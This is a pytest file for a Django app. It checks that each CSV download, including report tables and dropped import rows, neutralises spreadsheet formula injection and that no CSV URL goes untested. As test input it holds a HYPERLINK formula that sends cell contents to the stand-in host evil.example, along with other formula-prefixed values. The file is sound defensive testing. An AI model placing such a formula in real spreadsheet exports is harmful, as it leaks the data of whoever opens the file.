"""Every CSV download goes through one writer that neutralises formulas: a cell of text starting with = + - @
(tab, carriage return) is prefixed with ', whatever wrote it (an import, a model, a curator's names)."""

import csv
import io

import pytest
from django.urls import get_resolver, reverse

from annotation.importing import questions_import
from annotation.models import Item
from core.spreadsheet import FORMULA_PREFIXES
from evaluation.runs.report import Table
from evaluation.runs.services import run_create
from tests.evaluation.runs import mc_items, release_of, run_here
from tests.fake_llm import Reply

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"clique")'
# Every URL whose download is CSV, and the test below that reads it. A new one fails here until it is tested.
CSV_URLS = {"annotation:import_dropped_csv", "evaluation:run_table_csv"}


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_neutral(text: str) -> None:
    dangerous = [cell for cell in cells(text) if cell.startswith(FORMULA_PREFIXES) and not is_number(cell)]
    assert dangerous == [], f"cells that a spreadsheet would run: {dangerous}"


def url_names(resolver=None, prefix=""):
    resolver = resolver or get_resolver()
    for pattern in resolver.url_patterns:
        if hasattr(pattern, "url_patterns"):
            namespace = f"{prefix}{pattern.namespace}:" if pattern.namespace else prefix
            yield from url_names(pattern, namespace)
        elif pattern.name:
            yield f"{prefix}{pattern.name}", str(pattern.pattern)


def test_every_csv_url_is_known_to_these_tests():
    found = {name for name, route in url_names() if ".csv" in route}
    assert found == CSV_URLS


def test_a_report_table_neutralises_text_cells_and_headings_and_keeps_numbers():
    table = Table(
        key="t",
        title="t",
        columns=[("=nome", "Nome"), ("kappa", "κ")],
        rows=[{"=nome": FORMULA, "kappa": -0.12}, {"=nome": "@SUM(1)", "kappa": 3}],
    )
    text = table.csv()
    assert_neutral(text)
    assert cells(text) == ["'=nome", "kappa", "'" + FORMULA, "-0.12", "'@SUM(1)", "3"]


def test_the_dropped_rows_download_is_neutralised(project, client_for, owner):
    buffer = io.StringIO()
    csv.writer(buffer).writerows(
        [["question", "causal_class"], [FORMULA, "associational"], ["-1+2", "associational"]]
    )
    data = buffer.getvalue().encode()
    batch = questions_import(project=project, data=data, filename="formulas.csv", skip_invalid=True)
    response = client_for(owner).get(reverse("annotation:import_dropped_csv", args=[project.slug, batch.pk]))
    text = b"".join(response.streaming_content).decode()
    assert "HYPERLINK" in text
    assert_neutral(text)


def test_the_run_table_downloads_are_neutralised(project, client_for, curator, endpoint, fake_llm):
    items = mc_items(project, 6)
    Item.objects.filter(pk__in=[item.pk for item in items]).update(
        metadata={"level": FORMULA, "task": "-cmd"}
    )
    release = release_of(project)
    run = run_create(
        project=project,
        release=release,
        endpoints=[endpoint],
        conditions=["zero-shot"],
        metadata_keys={"level": "level", "task": "task"},
        enqueue=False,
    )
    fake_llm.responder = lambda received: Reply.json({"answer": "A"})
    run_here(run)
    client = client_for(curator)
    downloads = []
    for table in ("accuracy", "accuracy_by_level", "accuracy_by_task"):
        response = client.get(reverse("evaluation:run_table_csv", args=[project.slug, run.pk, table]))
        if response.status_code == 200:
            downloads.append(response.content.decode())
    compared = client.get(
        reverse("evaluation:run_compare", args=[project.slug]), {"run": [run.pk], "table": "accuracy"}
    )
    downloads.append(compared.content.decode())
    assert any("HYPERLINK" in text for text in downloads)
    for text in downloads:
        assert_neutral(text)
